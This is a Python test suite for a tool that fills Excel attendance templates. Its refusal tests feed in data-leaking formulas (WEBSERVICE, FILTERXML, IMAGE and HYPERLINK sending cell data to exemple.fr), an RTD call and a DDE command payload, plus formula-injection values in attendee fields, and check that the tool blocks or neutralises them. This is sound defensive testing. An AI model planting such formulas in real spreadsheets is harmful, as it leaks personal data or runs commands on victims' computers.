"""Headquarters' own workbook, filled."""
# Workbooks know no zones: what is read from one has none.
# ruff: noqa: DTZ001

from __future__ import annotations

import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from io import BytesIO
from pathlib import Path

import msoffcrypto
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table
from openpyxl.worksheet.worksheet import Worksheet

from ia_events.domain import demonstration
from ia_events.domain.attendance import Fact, FactKind, Matrix, matrix
from ia_events.domain.errors import UserError
from ia_events.domain.events import Event
from ia_events.domain.fields import RETURNED
from ia_events.domain.people import Attendee, Role
from ia_events.spreadsheets.references import shift_formula
from ia_events.spreadsheets.template_opening import open_template
from ia_events.spreadsheets.templates import fill_template

MADE_AT = datetime(2026, 12, 17, 13, 45, tzinfo=UTC)
Filled = Callable[..., Worksheet]


def an_event() -> Event:
    event = demonstration.local_event(date(2026, 11, 22))
    return replace(event, id="e", slots=tuple(replace(slot, id=f"s{n}") for n, slot in enumerate(event.slots)))


def a_matrix(event: Event, count: int = 3) -> Matrix:
    people = [
        Attendee(
            id="r0",
            last_name="Arrondell",
            first_name="Éloïse",
            employer="Cap Excellence",
            phone="0690123456",
            postcode="01234",
        ),
        Attendee(
            id="r1",
            last_name="d'Arbaud",
            first_name="Loïc",
            employer='=HYPERLINK("http://exemple.fr")',
            job_title="{{titre}}",
        ),
        Attendee(id="r2", last_name="Questel", first_name="Ketty"),
        *(Attendee(id=f"r{n}", last_name=f"Nom {n}") for n in range(3, count)),
    ][:count]
    arrivals = [("r0", 0, -5), ("r0", 1, 0), ("r1", 0, 3)]
    facts = [
        Fact(
            id="",
            kind=FactKind.ARRIVAL,
            registration_id=r,
            slot_id=f"s{s}",
            at=event.slots[s].start + timedelta(minutes=m),
        )
        for r, s, m in arrivals
        if int(r[1:]) < count
    ]
    return matrix(event, people, facts)


@pytest.fixture
def filled(tmp_path: Path) -> Filled:
    """Make a template, fill it and open the result: its first sheet."""

    def fill(make: Callable[[Worksheet], None], count: int = 3, event: Event | None = None) -> Worksheet:
        workbook = Workbook()
        sheet = workbook.worksheets[0]
        sheet.title = "Retour"
        make(sheet)
        workbook.save(tmp_path / "modele.xlsx")
        event = event or an_event()
        fill_template(
            tmp_path / "retour.xlsx",
            tmp_path / "modele.xlsx",
            event,
            a_matrix(event, count),
            made_at=MADE_AT,
            made_by="Ketty",
        )
        sheet = load_workbook(tmp_path / "retour.xlsx", rich_text=True).worksheets[0]
        assert isinstance(sheet, Worksheet)
        return sheet

    return fill


def refusal(tmp_path: Path, make: Callable[[Worksheet], object]) -> UserError:
    workbook = Workbook()
    workbook.worksheets[0].title = "Retour"
    make(workbook.worksheets[0])
    workbook.save(tmp_path / "modele.xlsx")
    return refusal_of(tmp_path / "modele.xlsx")


def refusal_of(template: Path) -> UserError:
    event = an_event()
    with pytest.raises(UserError) as caught:
        fill_template(template.parent / "retour.xlsx", template, event, a_matrix(event), made_at=MADE_AT)
    assert not (template.parent / "retour.xlsx").exists()
    assert "{" not in caught.value.message.replace("{{", "").replace("}}", "")
    return caught.value


def put(cell: str, value: object) -> Callable[[Worksheet], None]:
    def make(sheet: Worksheet) -> None:
        sheet[cell] = value

    return make


def form(sheet: Worksheet) -> None:
    """A form with all that has to follow: title, headings on row 4, the person's row 5, totals and notes below."""
    sheet["A1"] = "{{ TITRE }}"
    sheet["A1"].font = Font(size=18, bold=True, color="FF0F766E")
    sheet.merge_cells("A1:F1")
    sheet["A2"] = "{{dates}}, {{lieu}} ({{jauge}} places)"
    for column, text in enumerate(("N°", "Nom", "Prénom", "Collectivité", "{{créneau 1}}", "Heures"), 1):
        sheet.cell(4, column, text)
    for column, text in enumerate(
        (
            "{{numéro}}",
            "{{nom}}",
            "{{Prénom}}",
            "{{collectivité}}",
            "{{créneau 1}}",
            "{{heures}}",
            "=F5*2",
            "=SUM(F$5:F5)",
        ),
        1,
    ):
        sheet.cell(5, column, text)
    sheet["B5"].fill = PatternFill("solid", fgColor="FFE3F2F0")
    sheet["F5"].number_format = "0.0"
    sheet.row_dimensions[5].height = 24
    sheet.row_dimensions[6].height = 40
    sheet["I5"] = "Visa"
    sheet.merge_cells("I5:J5")
    sheet["A6"] = "Total"
    sheet.merge_cells("A6:E6")
    sheet["F6"] = "=SUM(F5:F5)"
    sheet["G6"] = "=SUM(F5)"
    sheet["H6"] = "=F6/COUNTA(B5)+Autre!A1"
    sheet["A8"] = "{{inscriptions}}"
    sheet["A8"].hyperlink = "https://exemple.fr"
    validation = DataValidation(type="list", formula1='"oui,non"')
    validation.add("J5")
    validation.add("J8")
    sheet.add_data_validation(validation)
    sheet.conditional_formatting.add(
        "E5:E5", FormulaRule(formula=["$E5=$A$8"], fill=PatternFill("solid", bgColor="FFFCE9E7"))
    )
    sheet.auto_filter.ref = "A4:F5"
    sheet.print_area = "A1:J8"
    sheet.print_title_rows = "4:4"
    sheet.freeze_panes = "A5"
    sheet.oddHeader.center.text = "{{titre}} - {{délégation}}"
    other = sheet.parent.create_sheet("Autre")
    other["A1"] = "=SUM(Retour!F5:F5)+Retour!F6"
    other["A2"] = "{{date de début}}"
    sheet.parent.defined_names["Heures"] = DefinedName("Heures", attr_text="Retour!$F$5:$F$5")


def test_event_and_people_are_filled(filled: Filled) -> None:
    sheet = filled(form)

    assert sheet["A1"].value == an_event().title
    assert sheet["A2"].value == "du 15 au 16 décembre\u00a02026, Centre des congrès de la Pointe (320 places)"
    assert sheet["E4"].value == "Matin"
    assert [[c.value for c in row[:6]] for row in sheet["A5:F7"]] == [
        [1, "Arrondell", "Éloïse", "Cap Excellence", "Présence", 7],
        [2, "d'Arbaud", "Loïc", '=HYPERLINK("http://exemple.fr")', "Présence", 3.5],
        [3, "Questel", "Ketty", None, "À pointer", 0],
    ]
    assert (sheet["D6"].data_type, sheet["D6"].quotePrefix) == ("s", True)
    assert sheet["A10"].value == 3
    assert sheet.oddHeader.center.text == f"{an_event().title} - Guadeloupe"
    other = sheet.parent["Autre"]
    assert (other["A2"].value, other["A2"].number_format) == (datetime(2026, 12, 15), "dd/mm/yyyy")


def test_formats_heights_and_merges_follow(filled: Filled) -> None:
    sheet = filled(form)

    assert (sheet["A1"].font.size, sheet["A1"].font.color.rgb) == (18, "FF0F766E")
    for row in (5, 6, 7):
        assert sheet.cell(row, 2).fill.fgColor.rgb == "FFE3F2F0"
        assert sheet.cell(row, 6).number_format == "0.0"
        assert sheet.row_dimensions[row].height == 24
        assert sheet.cell(row, 9).value == "Visa"
    assert sheet.row_dimensions[8].height == 40
    assert sheet["A8"].value == "Total"
    assert sorted(str(area) for area in sheet.merged_cells.ranges) == ["A1:F1", "A8:E8", "I5:J5", "I6:J6", "I7:J7"]


def test_formulas_follow_as_in_a_spreadsheet(filled: Filled) -> None:
    sheet = filled(form)

    assert [sheet.cell(row, 7).value for row in (5, 6, 7)] == ["=F5*2", "=F6*2", "=F7*2"]
    assert [sheet.cell(row, 8).value for row in (5, 6, 7)] == ["=SUM(F$5:F5)", "=SUM(F$5:F6)", "=SUM(F$5:F7)"]
    assert (sheet["F8"].value, sheet["G8"].value) == ("=SUM(F5:F7)", "=SUM(F5:F7)")
    assert sheet["H8"].value == "=F8/COUNTA(B5:B7)+Autre!A1"
    assert sheet.parent["Autre"]["A1"].value == "=SUM(Retour!F5:F7)+Retour!F8"
    assert sheet.parent.defined_names["Heures"].attr_text == "Retour!$F$5:$F$7"


def test_validations_conditions_filters_and_print_set_up_follow(filled: Filled) -> None:
    sheet = filled(form)

    assert sorted(str(sheet.data_validations.dataValidation[0].sqref).split()) == ["J10", "J5:J7"]
    (condition,) = sheet.conditional_formatting
    assert str(condition.sqref) == "E5:E7"
    assert condition.rules[0].formula == ["$E5=$A$10"]
    assert sheet.auto_filter.ref == "A4:F7"
    assert sheet.print_area.endswith("$A$1:$J$10")
    assert (sheet.print_title_rows, sheet.freeze_panes) == ("$4:$4", "A5")
    assert sheet["A10"].hyperlink.ref == "A10"


def test_a_table_grows_with_its_people(filled: Filled) -> None:
    def make(sheet: Worksheet) -> None:
        for column, heading in enumerate(("Nom", "Prénom"), 1):
            sheet.cell(3, column, heading)
        sheet["A4"], sheet["B4"] = "{{nom}}", "{{prénom}}"
        sheet.add_table(Table(displayName="Personnes", ref="A3:B4"))

    sheet = filled(make)

    assert sheet.tables["Personnes"].ref == "A3:B6"
    assert sheet.tables["Personnes"].autoFilter.ref == "A3:B6"


@pytest.mark.parametrize("count", [0, 1])
def test_nobody_or_one_person_moves_nothing(count: int, filled: Filled) -> None:
    sheet = filled(form, count)

    assert sheet["B5"].value == ("Arrondell" if count else None)
    assert sheet["B5"].fill.fgColor.rgb == "FFE3F2F0"
    assert (sheet["A6"].value, sheet["F6"].value) == ("Total", "=SUM(F5:F5)")
    assert sheet["A8"].value == count


def test_every_returned_field_answers_in_french_and_in_english(filled: Filled) -> None:
    fields = [field for field in RETURNED if field.id not in ("role", "status")]

    def make(sheet: Worksheet) -> None:
        for column, field in enumerate(fields, 1):
            sheet.cell(1, column, f"{{{{{field.label}}}}}")
            sheet.cell(1, column + len(fields), f"{{{{ {field.id} }}}}")
        sheet.cell(1, 2 * len(fields) + 1, "{{last name}} {{FIRST NAME}}, {{collectivite}}")

    sheet = filled(make)

    person = a_matrix(an_event()).people[0]
    values = [getattr(person, field.id) or None for field in fields]
    row = [cell.value for cell in sheet[1]]
    assert row == [*values, *values, "Arrondell Éloïse, Cap Excellence"]
    phone = [field.id for field in fields].index("phone") + 1
    assert (sheet.cell(1, phone).value, sheet.cell(1, phone).number_format) == ("0690123456", "@")


def test_slots_count_from_one_and_stay_empty_beyond_the_last(filled: Filled) -> None:
    def make(sheet: Worksheet) -> None:
        names = (
            "créneau 4",
            "date créneau 4",
            "horaires créneau 4",
            "attendus créneau 1",
            "présences créneau 1",
            "taux créneau 1",
            "slot 5",
            "taux créneau 9",
        )
        for row, name in enumerate(names, 1):
            sheet.cell(row, 1, f"{{{{{name}}}}}")
        sheet.cell(10, 1, "{{nom}}")
        sheet.cell(10, 2, "{{créneau 2}}")
        sheet.cell(10, 3, "{{créneau 5}}")
        sheet.cell(10, 4, "{{arrivée 1}}")
        sheet.cell(10, 5, "{{départ 1}}")

    sheet = filled(make)

    assert [sheet.cell(row, 1).value for row in range(1, 9)] == [
        "Après-midi", datetime(2026, 12, 16), "14\u00a0h – 17\u00a0h\u00a030", 3, 2, 1, None, None,
    ]  # fmt: skip
    assert sheet["A6"].number_format == "0 %"
    assert [cell.value for cell in sheet[10][:4]] == ["Arrondell", "Présence", None, datetime(2026, 12, 15, 8, 55)]


def test_what_people_wrote_is_never_a_placeholder_itself(filled: Filled) -> None:
    def make(sheet: Worksheet) -> None:
        sheet["A1"], sheet["B1"] = "{{nom}}", "{{fonction}}"

    assert filled(make)["B2"].value == "{{titre}}"


def test_several_formats_within_a_cell_are_kept_where_nothing_is_filled(filled: Filled) -> None:
    rich = CellRichText("À rendre ", TextBlock(InlineFont(b=True), "avant vendredi"))

    def make(sheet: Worksheet) -> None:
        sheet["A1"] = rich
        sheet["A2"] = CellRichText("Titre : ", TextBlock(InlineFont(b=True), "{{titre}}"))

    sheet = filled(make)

    assert sheet["A1"].value == rich
    assert sheet["A2"].value == f"Titre : {an_event().title}"


def test_speakers_are_named_and_not_counted_among_participants(tmp_path: Path) -> None:
    event = an_event()
    people = [
        Attendee(id="r0", last_name="Sainte-Luce", first_name="Maïwenn", employer="UA", role=Role.SPEAKER),
        Attendee(id="r1", last_name="Hodge"),
    ]
    workbook = Workbook()
    workbook.worksheets[0]["A1"] = "{{intervenants}} / {{inscriptions}}"
    workbook.save(tmp_path / "modele.xlsx")

    fill_template(tmp_path / "r.xlsx", tmp_path / "modele.xlsx", event, matrix(event, people, []), made_at=MADE_AT)

    assert load_workbook(tmp_path / "r.xlsx").worksheets[0]["A1"].value == "Maïwenn SAINTE-LUCE (UA) / 1"


def test_whoever_came_and_was_removed_is_present_and_not_registered(tmp_path: Path) -> None:
    event = an_event()
    people = [Attendee(id="r0", last_name="Hodge"), Attendee(id="r1", last_name="Questel")]
    came = Fact(id="", kind=FactKind.ARRIVAL, registration_id="r1", slot_id=event.slots[0].id, at=event.slots[0].start)
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet["A1"] = "{{inscriptions}} / {{désistements}} / {{présences créneau 1}} / {{attendus créneau 1}}"
    sheet["A2"], sheet["B2"] = "{{nom}}", "{{inscription}} / {{créneau 1}} / {{créneau 2}}"
    workbook.save(tmp_path / "modele.xlsx")
    grid = matrix(event, people, [came], unlisted=frozenset({"r1"}))
    fill_template(tmp_path / "r.xlsx", tmp_path / "modele.xlsx", event, grid, made_at=MADE_AT)
    found = load_workbook(tmp_path / "r.xlsx").worksheets[0]
    assert found["A1"].value == "1 / 0 / 1 / 2"
    assert [found[place].value for place in ("B2", "B3")] == [
        "Inscription / À pointer / À pointer",
        "Désistement / Présence / Hors inscription",
    ]


def test_an_encrypted_return_needs_its_password(tmp_path: Path) -> None:
    event = an_event()
    workbook = Workbook()
    workbook.worksheets[0]["A1"] = "{{titre}}"
    workbook.save(tmp_path / "modele.xlsx")

    fill_template(
        tmp_path / "r.xlsx", tmp_path / "modele.xlsx", event, a_matrix(event), made_at=MADE_AT, password="Colibri"
    )

    with (tmp_path / "r.xlsx").open("rb") as file:
        office = msoffcrypto.OfficeFile(file)
        office.load_key(password="Colibri", verify_password=True)
        plain = BytesIO()
        office.decrypt(plain)
    assert load_workbook(plain).worksheets[0]["A1"].value == event.title


# Refusals


def test_a_template_without_placeholders_is_refused(tmp_path: Path) -> None:
    error = refusal(tmp_path, put("A1", "Retour"))

    assert error.code == "template_no_placeholder"
    assert "{{titre}}" in error.message


def test_an_unknown_placeholder_is_named_with_its_cell(tmp_path: Path) -> None:
    error = refusal(tmp_path, put("C7", "Le {{jour de paie}}"))

    assert error.code == "template_unknown"
    assert "{{jour de paie}}" in error.message
    assert "Retour!C7" in error.message


@pytest.mark.parametrize("name", ["repas", "Aménagements", "remarks"])
def test_what_stays_home_is_refused_by_name(name: str, tmp_path: Path) -> None:
    error = refusal(tmp_path, put("B2", f"{{{{{name}}}}}"))

    assert error.code == "template_private"
    assert name in error.message


def test_two_rows_of_people_on_one_sheet_are_refused(tmp_path: Path) -> None:
    def make(sheet: Worksheet) -> None:
        sheet["A3"], sheet["A9"] = "{{nom}}", "{{prénom}}"

    error = refusal(tmp_path, make)

    assert error.code == "template_two_rows"
    assert error.values["first"] == 3
    assert error.values["second"] == 9


def test_an_arrival_outside_the_row_of_people_is_refused(tmp_path: Path) -> None:
    assert refusal(tmp_path, put("A1", "{{titre}} {{arrivée 1}}")).code == "template_unknown"


def test_a_placeholder_in_a_formula_is_refused(tmp_path: Path) -> None:
    error = refusal(tmp_path, put("D4", '=IF("{{nom}}"="","",1)'))

    assert error.code == "template_formula"
    assert error.values["cell"] == "Retour!D4"


def test_an_unknown_placeholder_in_a_page_header_is_refused(tmp_path: Path) -> None:
    def make(sheet: Worksheet) -> None:
        sheet["A1"] = "{{titre}}"
        sheet.oddFooter.left.text = "{{nom}}"

    assert refusal(tmp_path, make).code == "template_unknown"


@pytest.mark.parametrize(
    "part, word",
    [("xl/vbaProject.bin", "macros"), ("_xmlsignatures/sig1.xml", "signature")],
)
def test_what_would_make_a_file_excel_refuses_is_said_before_filling(part: str, word: str, tmp_path: Path) -> None:
    workbook = Workbook()
    workbook.worksheets[0]["A1"] = "{{titre}}"
    workbook.save(tmp_path / "modele.xlsx")
    with zipfile.ZipFile(tmp_path / "modele.xlsx", "a") as archive:
        archive.writestr(part, b"<x/>")

    error = refusal_of(tmp_path / "modele.xlsx")

    assert error.code == "template_would_lose"
    assert word in error.message


TOLD = '"http://exemple.fr/?n="&A4'


@pytest.mark.parametrize(
    "formula, word",
    [
        (f"=WEBSERVICE({TOLD})", "WEBSERVICE"),
        (f"=_xlfn.WEBSERVICE ({TOLD})", "WEBSERVICE"),
        (f'=IF(A4="","",filterxml(B4,{TOLD}))', "FILTERXML"),
        ('=RTD("progid",,A4)', "RTD"),
        (f"=_xlfn.IMAGE({TOLD})", "IMAGE"),
        (f'=HYPERLINK({TOLD},"clic")', "HYPERLINK"),
        ("=cmd|'/c calc'!A0", "DDE"),
    ],
)
@pytest.mark.parametrize("place", ["cell", "validation", "name"])
def test_what_would_tell_others_the_data_is_refused_by_name(
    formula: str, word: str, place: str, tmp_path: Path
) -> None:
    def make(sheet: Worksheet) -> None:
        sheet["A4"] = "{{nom}}"
        if place == "cell":
            sheet["D4"] = formula
        elif place == "validation":
            sheet.add_data_validation(DataValidation(type="custom", formula1=formula.removeprefix("="), sqref="A1"))
        else:
            assert sheet.parent is not None
            sheet.parent.defined_names["ailleurs"] = DefinedName("ailleurs", attr_text=formula.removeprefix("="))

    error = refusal(tmp_path, make)

    assert error.code == "template_tells"
    assert word in error.message


@pytest.mark.parametrize(
    "kind, word",
    [("externalLink", "autres classeurs"), ("connections", "connexions"), ("queryTable", "requêtes")],
)
def test_what_is_linked_to_data_elsewhere_is_refused_by_name(kind: str, word: str, tmp_path: Path) -> None:
    workbook = Workbook()
    workbook.worksheets[0]["A1"] = "{{titre}}"
    workbook.save(tmp_path / "modele.xlsx")
    with zipfile.ZipFile(tmp_path / "modele.xlsx", "a") as archive:
        archive.writestr(
            "xl/worksheets/_rels/sheet1.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
            f' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="../a.xml"/></Relationships>',
        )

    error = refusal_of(tmp_path / "modele.xlsx")

    assert error.code == "template_tells"
    assert word in error.message


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("mailto:"&A4,"Écrire")',
        '=HYPERLINK("http://exemple.fr/?a=1&b=2","Site")',
        "=SUM(B4:B9)&WEB",
        '="RTD"',
    ],
)
def test_formulas_that_tell_nobody_stay(formula: str, tmp_path: Path) -> None:
    workbook = Workbook()
    workbook.worksheets[0]["A4"] = "{{nom}}"
    workbook.worksheets[0]["D4"] = formula
    workbook.save(tmp_path / "modele.xlsx")

    assert open_template(tmp_path / "modele.xlsx").sheets()


def test_a_truncated_template_is_refused(tmp_path: Path) -> None:
    workbook = Workbook()
    workbook.worksheets[0]["A1"] = "{{titre}}"
    workbook.save(tmp_path / "modele.xlsx")
    content = (tmp_path / "modele.xlsx").read_bytes()
    (tmp_path / "modele.xlsx").write_bytes(content[: len(content) // 2])

    assert refusal_of(tmp_path / "modele.xlsx").code == "zip_truncated"


def test_a_template_whose_parts_make_no_sense_is_refused(tmp_path: Path) -> None:
    workbook = Workbook()
    workbook.worksheets[0]["A1"] = "{{titre}}"
    whole = BytesIO()
    workbook.save(whole)
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(tmp_path / "modele.xlsx", "w") as target:
        for name in source.namelist():
            target.writestr(name, b"<styleSheet" if name == "xl/styles.xml" else source.read(name))

    assert refusal_of(tmp_path / "modele.xlsx").code == "file_damaged"


def test_something_else_than_a_workbook_is_refused(tmp_path: Path) -> None:
    (tmp_path / "modele.xlsx").write_text("{{titre}};{{nom}}\n", encoding="utf-8")

    assert refusal_of(tmp_path / "modele.xlsx").code == "template_format"


# Formulas


@pytest.mark.parametrize(
    "formula, expected",
    [
        ("=A5", "=A5"),
        ("=A6", "=A8"),
        ("=$A$6+A4", "=$A$8+A4"),
        ("=SUM(A5:A5)", "=SUM(A5:A7)"),
        ("=SUM($A$5:B$5)", "=SUM($A$5:B$7)"),
        ("=SUM(A4:A9)", "=SUM(A4:A11)"),
        ("=SUM(A6:A9)", "=SUM(A8:A11)"),
        ("=SUM(A1:A4)", "=SUM(A1:A4)"),
        ("=COUNTIF(A5,\"A6\")", '=COUNTIF(A5:A7,"A6")'),
        ("=IF(A5>1,SUM(A5),0)", "=IF(A5>1,SUM(A5:A7),0)"),
        ("=SUM(5:6)", "=SUM(5:8)"),
        ("=SUM(A:A)", "=SUM(A:A)"),
        ("=Retour!A6+'Autre feuille'!A6", "=Retour!A8+'Autre feuille'!A6"),
        ("='Retour'!A5:A5", "='Retour'!A5:A7"),
        ("=Taux*A6", "=Taux*A8"),
        ("=LOG10(A6)", "=LOG10(A8)"),
        ("=[1]Retour!A6", "=[1]Retour!A6"),
    ],
)  # fmt: skip
def test_a_formula_follows_the_rows_put_under_row_five(formula: str, expected: str) -> None:
    assert shift_formula(formula, "Retour", "Retour", 5, 2) == expected


def test_a_formula_of_another_sheet_only_follows_what_names_the_sheet() -> None:
    assert shift_formula("=A6+Retour!A6", "Autre", "Retour", 5, 2) == "=A6+Retour!A8"
